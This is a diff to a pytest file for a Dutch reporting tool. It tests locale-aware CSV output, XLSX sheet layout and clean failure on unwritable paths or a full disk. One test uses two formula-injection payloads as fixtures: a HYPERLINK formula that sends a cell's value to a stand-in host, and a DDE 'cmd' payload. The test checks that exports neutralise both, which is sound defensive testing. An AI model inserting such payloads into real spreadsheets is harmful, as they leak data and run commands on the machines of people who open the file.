@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import json
 from pathlib import Path
 
+import openpyxl
 import pytest
 from reporting_scenario import SEPTEMBER, build_scenario
 
 from app.cli import main
 from app.services import report_export
 from app.services.context import AppContext
-from app.services.reporting import compute_report
+from app.services.reporting import Report, compute_report
+from app.services.safe_output import DUTCH_CSV, ENGLISH_CSV
 
 
 @pytest.fixture
@@ -29,7 +34,7 @@ def _cell(value: str) -> object:
         return None
     for kind in (int, float):
         try:
-            return kind(value)
+            return kind(value)  # read_csv_sections gives decimal points back
         except ValueError:
             continue
     return value
@@ -96,17 +101,28 @@ def test_report_command_json_csv_xlsx_and_errors(
     scenario: dict[str, int],
     tmp_path: Path,
     capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     base = ["--db", _url(ctx), "report", "--from", "2026-09-01", "--to", "2026-09-30"]
+    monkeypatch.setenv("LANG", "nl_NL.UTF-8")
+    monkeypatch.delenv("LC_ALL", raising=False)
+    monkeypatch.delenv("LC_MESSAGES", raising=False)
     assert main(base) == 0
     printed = json.loads(capsys.readouterr().out)
     assert printed == compute_report(ctx, *SEPTEMBER).to_json()
     assert printed["total"]["reach_pct"] == 62.5
 
     assert main([*base, "--format", "csv"]) == 0
-    assert report_export.read_csv_sections(capsys.readouterr().out)["wijk"][0]["wijk"] == (
-        "Europawijk"
-    )
+    text = capsys.readouterr().out
+    assert text.startswith("section;from;to;cases;")  # Dutch: `;` and a decimal comma
+    assert ";62,5;" in text
+    assert report_export.read_csv_sections(text)["wijk"][0]["wijk"] == "Europawijk"
+    assert main(["--lang", "en", *base, "--format", "csv"]) == 0
+    text = capsys.readouterr().out
+    assert text.startswith("section,from,to,cases,") and ",62.5," in text
+    monkeypatch.setenv("LANG", "en_GB.UTF-8")
+    assert main([*base, "--format", "csv"]) == 0
+    assert capsys.readouterr().out == text
 
     out = tmp_path / "r.json"
     assert main([*base, "-o", str(out)]) == 0
@@ -149,3 +165,117 @@ def test_pdf_command(ctx: AppContext, scenario: dict[str, int], tmp_path: Path) 
     args = ["--db", _url(ctx), "report", "--format", "pdf", "-o", str(target)]
     assert main(args) == 0
     assert target.read_bytes().startswith(b"%PDF")
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+
+
+def _hostile(report: Report) -> Report:
+    """The report with a wijk and an agent named like a formula (issue 16)."""
+    wijk = dataclasses.replace(report.by_wijk[0], wijk=HOSTILE)
+    agent = dataclasses.replace(report.by_agent[0], agent="=cmd|' /C calc'!A0")
+    return dataclasses.replace(
+        report, by_wijk=(wijk, *report.by_wijk[1:]), by_agent=(agent, *report.by_agent[1:])
+    )
+
+
+def test_csv_and_xlsx_neutralise_formulas(
+    ctx: AppContext, scenario: dict[str, int], tmp_path: Path
+) -> None:
+    report = _hostile(compute_report(ctx, *SEPTEMBER))
+    for dialect in (DUTCH_CSV, ENGLISH_CSV):
+        rows = list(
+            csv.reader(
+                io.StringIO(report_export.to_csv_text(report, dialect)),
+                delimiter=dialect.delimiter,
+            )
+        )
+        cells = [c for row in rows for c in row]
+        assert "'" + HOSTILE in cells and "'=cmd|' /C calc'!A0" in cells
+        assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    target = tmp_path / "r.xlsx"
+    report_export.write_xlsx(report, target)
+    workbook = openpyxl.load_workbook(target)
+    wijk_cell = workbook["Per wijk"]["A2"]
+    assert wijk_cell.value == "'" + HOSTILE and wijk_cell.data_type == "s"
+    assert workbook["Per beller"]["A2"].value == "'=cmd|' /C calc'!A0"
+    formulas = [
+        c.coordinate
+        for ws in workbook.worksheets
+        for r in ws.iter_rows()
+        for c in r
+        if c.data_type == "f"
+    ]
+    assert formulas == []
+
+
+def test_xlsx_has_one_header_row_and_the_keys_in_a_legend(
+    ctx: AppContext, scenario: dict[str, int], tmp_path: Path
+) -> None:
+    report = compute_report(ctx, *SEPTEMBER)
+    target = tmp_path / "r.xlsx"
+    report_export.write_xlsx(report, target)
+    workbook = openpyxl.load_workbook(target)
+    wijk = workbook["Per wijk"]
+    assert [c.value for c in wijk[1]] == list(report_export.WIJK_LABELS)
+    # Row 2 is the first wijk, not a row of English codes.
+    assert wijk["A2"].value == report.by_wijk[0].wijk
+    assert wijk.freeze_panes == "A2"
+    legend = [tuple(r) for r in workbook["Toelichting"].iter_rows(values_only=True)]
+    assert ("Per wijk", "Bereik %", "reach_pct") in legend
+    assert workbook.sheetnames[-1] == "Toelichting"
+
+
+def test_report_to_an_unwritable_path_changes_and_audits_nothing(
+    ctx: AppContext,
+    scenario: dict[str, int],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Issue 16: a report written to an unwritable path was still audited; a full disk while
+    writing the XLSX ended in a traceback and left a partial file."""
+    import errno
+
+    from sqlalchemy import func, select
+
+    from app.models import AuditEvent
+
+    def audits() -> int:
+        with ctx.db.read() as session:
+            return session.scalar(select(func.count()).select_from(AuditEvent)) or 0
+
+    base = ["--db", _url(ctx), "report", "--from", "2026-09-01", "--to", "2026-09-30"]
+    before = audits()
+    folder = tmp_path / "rapport.xlsx"
+    folder.mkdir()
+    assert main([*base, "--format", "xlsx", "-o", str(folder)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "map" in err and "Traceback" not in err
+    assert audits() == before
+
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+
+    def disk_full(report: Report, path: Path) -> None:
+        path.write_bytes(b"PK\x03\x04 half a workbook")
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(report_export, "write_xlsx", disk_full)
+    target = out_dir / "r.xlsx"
+    assert main([*base, "--format", "xlsx", "-o", str(target)]) == 2
+    err = capsys.readouterr().err
+    assert (
+        err == f"vroegbel: Het bestand '{target}' kan niet worden geschreven: de schijf is vol.\n"
+    )
+    assert list(out_dir.iterdir()) == []  # no partial file, no temporary file
+    with ctx.db.read() as session:
+        kinds = list(session.scalars(select(AuditEvent.kind).order_by(AuditEvent.id)))
+    assert "report_export" not in kinds[before:]
+
+    monkeypatch.undo()
+    assert main([*base, "--format", "xlsx", "-o", str(target)]) == 0
+    capsys.readouterr()
+    with ctx.db.read() as session:
+        kinds = list(session.scalars(select(AuditEvent.kind).order_by(AuditEvent.id)))
+    assert kinds[-1] == "report_export"
